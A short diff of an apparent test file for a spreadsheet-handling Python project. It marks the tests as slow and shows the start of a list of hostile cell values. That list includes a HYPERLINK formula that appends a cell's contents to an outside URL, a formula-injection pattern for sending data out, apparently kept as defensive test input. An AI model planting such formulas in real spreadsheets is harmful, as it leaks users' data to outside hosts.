@@ -16,6 +16,8 @@ from crispdm.spreadsheets import from_cell
 from tests.support.templates import bundled_files
 from tests.support.work import AUDIT, DRAW, ERRORS, PREPARE, REVIEW, TRAIN, Here, listings
 
+pytestmark = pytest.mark.slow  # each test starts scripts that load data libraries
+
 NUMBER = re.compile(r"[-+](\d+\.?\d*|\.\d+)(e[-+]?\d+)?", re.IGNORECASE)
 HOSTILE = [
     '=HYPERLINK("http://x.org/"&A1,"open")',
